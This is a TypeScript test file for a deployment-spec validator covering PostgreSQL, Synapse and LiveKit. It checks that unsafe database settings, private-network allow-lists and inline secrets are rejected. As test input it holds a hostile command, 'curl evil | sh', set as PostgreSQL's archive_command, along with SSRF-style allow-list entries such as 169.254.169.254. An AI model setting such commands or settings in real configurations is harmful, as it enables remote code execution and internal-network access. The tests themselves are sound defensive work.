// Security guard rails of the spec: settings that weaken PostgreSQL authentication or run
// commands, Synapse settings that open private networks, and secrets written into the spec.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  DeploymentSpecSchema,
  PRIVATE_ADDRESS_RANGES,
  safeLoadDeploymentSpecText,
  safeParseDeploymentSpec,
  type DeploymentSpec,
  type DeploymentSpecInput,
} from '../src/index.js'
import { checkPostgresSettings, checkSynapseNetworkAccess } from '../src/checks/index.js'
import { cidrContains, cidrOverlaps, parseCidr } from '../src/network/cidr.js'

const base: DeploymentSpecInput = { serverName: 'example.org', tls: { letsEncrypt: { email: 'admin@example.org' } } }
const spec = (extra: Partial<DeploymentSpecInput>): DeploymentSpec => DeploymentSpecSchema.parse({ ...base, ...extra })
const brief = (issues: readonly { path: readonly (string | number)[]; code: string; message: string; hint: string }[]) =>
  issues.map((i) => `${i.code} at ${i.path.join('.')}: ${i.message} | ${i.hint}`)
const codes = (input: Partial<DeploymentSpecInput>) => {
  const result = safeParseDeploymentSpec({ ...base, ...input })
  return result.success ? [] : result.issues.map((i) => `${i.code} ${i.path.join('.')}`)
}

describe('postgres.extraSettings guard rails', () => {
  it('refuses settings that change authentication, loaded code, included files or commands', () => {
    const issues = checkPostgresSettings(
      spec({
        postgres: {
          extraSettings: { archive_command: 'curl evil | sh', hba_file: '/tmp/hba', ssl: true, include_dir: '/etc', work_mem: '8MB' },
        },
      }),
    )
    expect(issues.map((i) => i.path.join('.'))).toEqual([
      'postgres.extraSettings.archive_command',
      'postgres.extraSettings.hba_file',
      'postgres.extraSettings.include_dir',
      'postgres.extraSettings.ssl',
    ])
    expect(brief(issues.slice(0, 1))).toMatchInlineSnapshot(`
      [
        "unsafe_setting at postgres.extraSettings.archive_command: postgres.extraSettings sets "archive_command", which changes how PostgreSQL authenticates clients, which files or code it loads, or which commands it runs. | remove "archive_command": messenger-stack already renders scram-sha-256 authentication and its own pg_hba.conf; if you really mean it, add "postgres-server-settings" to acknowledgedRisks (see docs/security.md).",
      ]
    `)
  })

  it('accepts them when the spec acknowledges the risk by name, and tuning settings always', () => {
    expect(codes({ postgres: { extraSettings: { password_encryption: 'md5' } } })).toEqual([
      'unsafe_setting postgres.extraSettings.password_encryption',
    ])
    expect(codes({ postgres: { extraSettings: { password_encryption: 'md5' } }, acknowledgedRisks: ['postgres-server-settings'] })).toEqual(
      [],
    )
    expect(codes({ postgres: { extraSettings: { work_mem: '16MB', random_page_cost: 1.1 } } })).toEqual([])
  })

  it('refuses an unknown risk name with the list of known ones', () => {
    const result = safeParseDeploymentSpec({ ...base, acknowledgedRisks: ['everything'] })
    expect(result.success).toBe(false)
    expect(result.success ? '' : result.issues[0]!.message).toContain('postgres-server-settings')
  })
})

describe('synapse.extraConfig network guard rails', () => {
  it('refuses an emptied or narrowed ip_range_blacklist', () => {
    expect(brief(checkSynapseNetworkAccess(spec({ synapse: { extraConfig: { ip_range_blacklist: [] } } })))).toMatchInlineSnapshot(`
      [
        "unsafe_setting at synapse.extraConfig.ip_range_blacklist: synapse.extraConfig.ip_range_blacklist leaves out 20 private address ranges (such as 127.0.0.0/8), so Synapse could be made to connect to hosts on internal networks. | remove ip_range_blacklist (Synapse's default blocks every private range), or list every range of 127.0.0.0/8, 10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16, 100.64.0.0/10, 192.0.0.0/24, 169.254.0.0/16, 192.88.99.0/24, 198.18.0.0/15, 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 224.0.0.0/4, 0.0.0.0/8, ::1/128, fe80::/10, fc00::/7, 2001:db8::/32, ff00::/8, fec0::/10 in it; if you really mean it, add "synapse-private-network-access" to acknowledgedRisks (see docs/security.md).",
      ]
    `)
    const narrowed = PRIVATE_ADDRESS_RANGES.filter((range) => range !== '10.0.0.0/8')
    expect(codes({ synapse: { extraConfig: { ip_range_blacklist: narrowed } } })).toEqual([
      'unsafe_setting synapse.extraConfig.ip_range_blacklist',
    ])
    expect(codes({ synapse: { extraConfig: { federation_ip_range_blacklist: 'none' } } })).toEqual([
      'unsafe_setting synapse.extraConfig.federation_ip_range_blacklist',
    ])
  })

  it('accepts a blacklist that keeps every private range, even as wider ranges, and adds public ones', () => {
    const wider = ['0.0.0.0/1', '128.0.0.0/1', '::/0']
    expect(codes({ synapse: { extraConfig: { ip_range_blacklist: [...PRIVATE_ADDRESS_RANGES, '198.51.100.7/32'] } } })).toEqual([])
    expect(codes({ synapse: { extraConfig: { ip_range_blacklist: wider } } })).toEqual([])
  })

  it('refuses whitelists that reach private, loopback or link-local addresses, but not public ones', () => {
    for (const entry of ['10.1.2.3', '192.168.1.0/24', '::1', 'fd12:3456::/48', '172.20.0.0/16', '169.254.169.254', '0.0.0.0/0']) {
      expect(codes({ synapse: { extraConfig: { ip_range_whitelist: [entry] } } }), entry).toEqual([
        'unsafe_setting synapse.extraConfig.ip_range_whitelist',
      ])
    }
    expect(codes({ synapse: { extraConfig: { url_preview_ip_range_whitelist: ['2001:db8::/32'] } } })).toEqual([
      'unsafe_setting synapse.extraConfig.url_preview_ip_range_whitelist',
    ])
    expect(codes({ synapse: { extraConfig: { ip_range_whitelist: ['198.51.99.0/24', '2a01:4f8::/32'] } } })).toEqual([])
    expect(codes({ synapse: { extraConfig: { ip_range_whitelist: ['not an address'] } } })).toEqual([
      'unsafe_setting synapse.extraConfig.ip_range_whitelist',
    ])
    expect(
      codes({ synapse: { extraConfig: { ip_range_whitelist: ['10.0.0.0/8'] } }, acknowledgedRisks: ['synapse-private-network-access'] }),
    ).toEqual([])
  })
})

describe('CIDR arithmetic', () => {
  it('parses IPv4 and IPv6 forms and refuses junk', () => {
    expect(parseCidr('10.1.2.3/8')).toEqual({ family: 4, base: 10n << 24n, prefix: 8 })
    expect(parseCidr('::ffff:192.0.2.1')?.family).toBe(6)
    expect(parseCidr('fe80::1%eth0')).toBeUndefined()
    for (const junk of ['', '1.2.3', '1.2.3.4/33', '256.1.1.1', '::1::', '01.2.3.4', '1:2:3:4:5:6:7:8:9', 'a/b/c']) {
      expect(parseCidr(junk), junk).toBeUndefined()
    }
  })

  it('overlap and containment agree with a brute-force count on small IPv4 ranges', () => {
    const range = fc.tuple(fc.integer({ min: 0, max: 255 }), fc.integer({ min: 24, max: 32 }))
    fc.assert(
      fc.property(range, range, ([a, ap], [b, bp]) => {
        const ra = parseCidr(`192.0.2.${a}/${ap}`)!
        const rb = parseCidr(`192.0.2.${b}/${bp}`)!
        const members = (r: typeof ra) =>
          new Set(
            Array.from({ length: 256 }, (_, i) => BigInt(0xc0000200 + i)).filter(
              (x) => x >= r.base && x < r.base + (1n << BigInt(32 - r.prefix)),
            ),
          )
        const sa = members(ra)
        const sb = members(rb)
        expect(cidrOverlaps(ra, rb)).toBe([...sa].some((x) => sb.has(x)))
        expect(cidrContains(ra, rb)).toBe([...sb].every((x) => sa.has(x)))
      }),
      { numRuns: 300 },
    )
  })
})

describe('secrets in the spec', () => {
  it('refuses secret settings at any depth of every extraConfig, naming the file-based way', () => {
    const result = safeParseDeploymentSpec({
      ...base,
      synapse: {
        extraConfig: {
          email: { smtp_host: 'mail.example.org', smtp_pass: 'hunter2-hunter2' },
          oidc_providers: [{ idp_id: 'sso', client_id: 'synapse', client_secret: 'abc123abc123', client_secret_path: '/secrets/x' }],
          password_config: { pepper: 'pepper-pepper', policy: { minimum_length: 12 } },
          turn_shared_secret: 'turn-turn-turn',
          saml2_config: { sp_config: { key_file: '/k', note: '-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----' } },
        },
      },
      livekit: { extraConfig: { redis: { address: 'redis:6379', password: 'redis-redis' } } },
    })
    expect(result.success).toBe(false)
    const issues = result.success ? [] : result.issues
    expect(issues.map((i) => `${i.code} ${i.path.join('.')}`)).toEqual([
      // The SMTP host is synapse.email.smtpHost's to set.
      'owned_key synapse.extraConfig.email.smtp_host',
      'secret_in_spec synapse.extraConfig.email.smtp_pass',
      'secret_in_spec synapse.extraConfig.oidc_providers.0.client_secret',
      'secret_in_spec synapse.extraConfig.password_config.pepper',
      'secret_in_spec synapse.extraConfig.saml2_config.sp_config.note',
      'secret_in_spec synapse.extraConfig.turn_shared_secret',
      'secret_in_spec livekit.extraConfig.redis.password',
    ])
    expect(brief(issues.slice(2, 3))).toMatchInlineSnapshot(`
      [
        "secret_in_spec at synapse.extraConfig.oidc_providers.0.client_secret: synapse.extraConfig.oidc_providers[0].client_secret holds a secret: everything in the spec is copied into rendered files, and rendered files never carry secrets. | put the value in a file of the secrets folder (mode 0600) and name that file with "client_secret_path"; see docs/security.md.",
      ]
    `)
    // No secret value is ever repeated in a message.
    for (const issue of issues)
      expect(`${issue.message} ${issue.hint}`).not.toMatch(/hunter2|abc123|pepper-pepper|turn-turn|redis-redis|BEGIN/)
  })
})

describe('warnings', () => {
  it('a valid spec with open registration and no backups section gets warnings, with positions', () => {
    const text = 'serverName: example.org\ntls:\n  letsEncrypt:\n    email: a@example.org\nsynapse:\n  registration:\n    mode: open\n'
    const result = safeLoadDeploymentSpecText(text, 'd.yaml')
    expect(result.success).toBe(true)
    const warnings = result.success ? result.warnings : []
    expect(warnings.map((w) => `${w.code} ${w.file}:${w.line}:${w.column}`)).toEqual([
      'open_registration d.yaml:7:11',
      'backups_not_configured d.yaml:1:1',
    ])
  })

  it('a spec with backups configured and closed registration has none', () => {
    const result = safeParseDeploymentSpec({ ...base, backups: { encryption: 'none' } })
    expect(result.success && result.warnings).toEqual([])
  })
})
